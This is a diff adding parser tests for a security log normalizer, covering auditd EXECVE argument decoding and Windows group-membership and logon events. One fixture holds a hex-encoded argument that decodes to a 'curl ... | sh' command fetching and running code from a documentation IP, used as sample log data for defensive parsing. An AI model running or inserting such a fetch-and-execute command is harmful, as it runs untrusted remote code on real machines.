@@ -20,6 +20,13 @@ from soc.model import get_path
 
 CTX = ParseContext("t", datetime(2024, 6, 1, tzinfo=UTC), ZoneInfo("Asia/Shanghai"))
 CN_SAMPLES = Path(__file__).resolve().parents[3].parent / "shared" / "corpus" / "cn-vendors" / "samples.jsonl"
+ELASTIC = Path(__file__).resolve().parents[3].parent / "shared" / "corpus" / "elastic-integrations" / "packages"
+
+
+def corpus_file(path: Path) -> Path:
+    """The corpus file, failing (not skipping) the test when it is missing."""
+    assert path.is_file(), f"corpus file missing: {path}"
+    return path
 
 
 def p(line: str, hint: str = "") -> dict:
@@ -353,6 +360,42 @@ def test_auditd_hex_values_decoded() -> None:
     assert g(doc, "event.action") == "ran-command"
 
 
+def test_auditd_execve_args_quoted_and_hex() -> None:
+    # a2 is hex because the argument holds spaces and a pipe: "curl -s http://203.0.113.9/x | sh"
+    doc = p('<14>Feb  1 04:30:21 web01 audispd: node=web01 type=EXECVE msg=audit(1485894621.323:4061): argc=3 '
+            'a0="bash" a1="-c" a2=6375726C202D7320687474703A2F2F3230332E302E3131332E392F78207C207368')  # fmt: skip
+    assert g(doc, "auditd.log.record_type") == "EXECVE" and g(doc, "event.action") == "execve"
+    assert g(doc, "process.args") == ["bash", "-c", "curl -s http://203.0.113.9/x | sh"]
+    assert g(doc, "process.args_count") == 3
+    assert g(doc, "process.command_line") == "bash -c curl -s http://203.0.113.9/x | sh"
+    assert g(doc, "auditd.log.a2") == "curl -s http://203.0.113.9/x | sh"  # decoded for the a<N> rules too
+
+
+def test_auditd_execve_long_argument_in_pieces() -> None:
+    # auditd splits a long argument into a1[0], a1[1]...; a hex piece may end inside a UTF-8 character.
+    doc = p('type=EXECVE msg=audit(1485894621.323:4062): argc=2 a0="echo" a1_len=12 a1[0]=E4BDA0E5 a1[1]=A5BD2E7368')
+    assert g(doc, "process.args") == ["echo", "你好.sh"]
+    assert g(doc, "process.command_line") == "echo 你好.sh" and g(doc, "process.args_count") == 2
+
+
+def test_auditd_execve_from_elastic_corpus() -> None:
+    base = ELASTIC / "auditd" / "data_stream" / "log" / "_dev" / "test" / "pipeline"
+    lines = corpus_file(base / "test-auditd-raw.log").read_text(encoding="utf-8").splitlines()
+    line = next(x for x in lines if x.startswith("type=EXECVE"))
+    expected = json.loads(corpus_file(base / "test-auditd-raw.log-expected.json").read_text())["expected"]
+    exp = next(e for e in expected if get_path(e, "event.original") == line)
+    doc = p(line)
+    assert g(doc, "process.args") == get_path(exp, "process.args") == ["top"]
+    assert g(doc, "process.args_count") == get_path(exp, "process.args_count") == 1
+    assert g(doc, "process.command_line") == "top"
+
+
+def test_auditd_syscall_registers_are_not_args() -> None:
+    doc = p('type=SYSCALL msg=audit(1485893834.891:18877199): arch=c000003e syscall=59 success=yes exit=0 '
+            'a0=7f095d0a4b88 ppid=1234 pid=5678 auid=1000 uid=0 gid=0 comm="ls" exe="/bin/ls"')  # fmt: skip
+    assert g(doc, "process.args") is None and g(doc, "auditd.log.a0") == "7f095d0a4b88"
+
+
 def test_kernel_audit_line_is_found_by_sniffing() -> None:
     doc = p('<4>Feb  1 04:30:21 host kernel: audit: type=1400 audit(1485894621.323:77): apparmor="DENIED" '
             'operation="open" profile="/usr/sbin/cupsd" name="/etc/shadow" pid=981 comm="cupsd"')  # fmt: skip
@@ -399,6 +442,20 @@ def _winlog(event_id: int, data: dict, keywords: str = "Audit Success") -> str:
         (4740, {"SubjectUserName": "DC01$", "TargetUserName": "zhangsan"}, "Audit Success",
          {"event.action": "locked-out-user-account", "user.target.name": "zhangsan"}),
         (1102, {"SubjectUserName": "admin"}, "Audit Success", {"event.action": "audit-log-cleared", "user.name": "admin"}),
+        (4728, {"SubjectUserName": "admin", "MemberName": "CN=svc_bak,CN=Users,DC=gov,DC=local",
+                "MemberSid": "S-1-5-21-1-2-3-1109", "TargetUserName": "Domain Admins", "TargetDomainName": "GOV",
+                "TargetSid": "S-1-5-21-1-2-3-512"}, "Audit Success",
+         {"event.action": "added-member-to-group", "user.name": "admin", "user.target.name": "svc_bak",
+          "user.target.id": "S-1-5-21-1-2-3-1109", "group.name": "Domain Admins", "group.domain": "GOV",
+          "group.id": "S-1-5-21-1-2-3-512"}),
+        (4732, {"SubjectUserName": "admin", "MemberName": "-", "MemberSid": "S-1-5-21-1-2-3-1109",
+                "TargetUserName": "Administrators", "TargetDomainName": "Builtin", "TargetSid": "S-1-5-32-544"},
+         "Audit Success",
+         {"event.action": "added-member-to-group", "user.target.name": None, "user.target.id": "S-1-5-21-1-2-3-1109",
+          "group.name": "Administrators", "group.domain": "Builtin"}),
+        (4756, {"SubjectUserName": "admin", "MemberName": "CN=Doe\\, John,OU=Staff,DC=gov,DC=local",
+                "TargetUserName": "Enterprise Admins", "TargetDomainName": "GOV"}, "Audit Success",
+         {"event.action": "added-member-to-group", "user.target.name": "Doe, John", "group.name": "Enterprise Admins"}),
     ],
 )  # fmt: skip
 def test_winlogbeat_json(event_id: int, data: dict, keywords: str, expected: dict) -> None:
@@ -446,6 +503,81 @@ def test_chinese_4740_snare() -> None:
     doc = p(line)
     assert g(doc, "event.code") == "4740" and g(doc, "event.action") == "locked-out-user-account"
     assert g(doc, "user.target.name") == "zhangsan"
+
+
+def test_group_member_added_from_elastic_corpus() -> None:
+    # 4746 (distribution group) has the shape of 4728/4732/4756: Elastic's document is the reference.
+    base = ELASTIC / "windows" / "data_stream" / "forwarded" / "_dev" / "test" / "pipeline"
+    event = json.loads(corpus_file(base / "test-security-4746.json").read_text(encoding="utf-8"))["events"][0]
+    exp = json.loads(corpus_file(base / "test-security-4746.json-expected.json").read_text())["expected"][0]
+    doc = p(json.dumps(event))
+    for field in ("group.name", "group.domain", "group.id", "user.target.name", "user.name"):
+        assert g(doc, field) == get_path(exp, field), field
+    assert g(doc, "user.target.name") == "Administrator" and g(doc, "group.name") == "testdistlocal1"
+
+
+ZH_4732 = ("已将成员添加到启用安全性的本地组中。 使用者: 安全 ID: S-1-5-21-1-2-3-500 帐户名: admin "
+           "帐户域: GOV-APP01 登录 ID: 0x3E7 成员: 安全 ID: S-1-5-21-1-2-3-1109 帐户名: CN=svc_bak,CN=Users,DC=gov,DC=local "
+           "组: 安全 ID: S-1-5-21-1-2-3-512 组名: Domain Admins 组域: GOV 其他信息: 特权: -")  # fmt: skip
+EN_4728 = ("A member was added to a security-enabled global group. Subject: Security ID: S-1-5-21-1-2-3-500 "
+           "Account Name: Administrator Account Domain: GOV Logon ID: 0x3E7 Member: Security ID: "
+           "S-1-5-21-1-2-3-1109 Account Name: CN=svc_bak,CN=Users,DC=gov,DC=local Group: Security ID: "
+           "S-1-5-21-1-2-3-512 Group Name: Domain Admins Group Domain: GOV "
+           "Additional Information: Privileges: -")  # fmt: skip
+
+
+@pytest.mark.parametrize("text,code,actor", [(ZH_4732, "4732", "admin"), (EN_4728, "4728", "Administrator")])
+def test_group_member_added_text(text: str, code: str, actor: str) -> None:
+    doc = p(f"<29>Nov 25 10:00:00 GOV-DC01 Security-Auditing: {code}: AUDIT_SUCCESS {text}")
+    assert g(doc, "event.code") == code and g(doc, "event.action") == "added-member-to-group"
+    assert g(doc, "group.name") == "Domain Admins" and g(doc, "group.domain") == "GOV"  # a name with a space
+    assert g(doc, "group.id") == "S-1-5-21-1-2-3-512"
+    assert g(doc, "user.target.name") == "svc_bak" and g(doc, "user.target.id") == "S-1-5-21-1-2-3-1109"
+    assert g(doc, "user.name") == actor
+
+
+def test_group_member_added_recognized_by_title() -> None:
+    doc = p(ZH_4732.replace("Domain Admins", "Administrators"), "windows_security")
+    assert g(doc, "event.code") == "4732" and g(doc, "group.name") == "Administrators"
+
+
+# evtsys squeezes the message to single spaces: a value ends before the next label.
+EVTSYS_4624 = [
+    "<29>Jul 29 15:03:22 DC01 Security-Auditing: 4624: AUDIT_SUCCESS An account was successfully logged on. "
+    "Subject: Security ID: S-1-0-0 Account Name: - Account Domain: - Logon ID: 0x0 Logon Type: 3 New Logon: "
+    "Security ID: S-1-5-7 Account Name: ANONYMOUS LOGON Account Domain: NT AUTHORITY Logon ID: 0x2A8B7F "
+    "Process Information: Process ID: 0x1a4 Process Name: C:\\Program Files\\Agent\\agent.exe "
+    "Network Information: Workstation Name: WIN-ABC Source Network Address: 10.10.1.20 Source Port: 52311",
+    "<29>Jul 29 15:03:22 DC01 Security-Auditing: 4624: AUDIT_SUCCESS "
+    + ZH_4624.replace("帐户名: Administrator 帐户域: WIN-ABC", "帐户名: ANONYMOUS LOGON 帐户域: NT AUTHORITY")
+    .replace("登录类型: 10", "登录类型: 3")
+    .replace("C:\\Windows\\System32\\winlogon.exe", "C:\\Program Files\\Agent\\agent.exe"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("line", EVTSYS_4624)
+def test_values_with_spaces_kept_whole_evtsys(line: str) -> None:
+    doc = p(line)
+    assert g(doc, "user.name") == "ANONYMOUS LOGON" and g(doc, "user.domain") == "NT AUTHORITY"
+    assert g(doc, "process.executable") == "C:\\Program Files\\Agent\\agent.exe"
+    assert g(doc, "process.name") == "agent.exe" and g(doc, "winlog.logon.type") == "3"
+    assert (g(doc, "source.domain"), g(doc, "source.ip"), g(doc, "source.port")) == ("WIN-ABC", "10.10.1.20", 52311)
+
+
+def test_values_with_spaces_kept_whole_snare() -> None:
+    # Snare turns the message's tabs and line breaks into runs of spaces between fields.
+    message = ("An account was successfully logged on.    Subject:   Security ID:  S-1-0-0   Account Name:  -   "
+               "Account Domain:  -   Logon ID:  0x0    Logon Type:   3    New Logon:   Security ID:  S-1-5-7   "
+               "Account Name:  ANONYMOUS LOGON   Account Domain:  NT AUTHORITY   Logon ID:  0x2A8B7F    "
+               "Network Information:   Workstation Name:  KALI   Source Network Address:  198.51.100.7   "
+               "Source Port:  49152")  # fmt: skip
+    line = ("<14>May  1 10:00:00 DC01 MSWinEventLog\t1\tSecurity\t123\tWed May 01 10:00:00 2024\t4624\t"
+            "Microsoft-Windows-Security-Auditing\tN/A\tN/A\tSuccess Audit\tDC01\tLogon\t\t"
+            + message + "\t7")  # fmt: skip
+    doc = p(line)
+    assert g(doc, "event.code") == "4624"
+    assert g(doc, "user.name") == "ANONYMOUS LOGON" and g(doc, "user.domain") == "NT AUTHORITY"
+    assert g(doc, "source.ip") == "198.51.100.7" and g(doc, "source.port") == 49152
 
 
 def test_real_chinese_5156_sample_from_corpus() -> None:
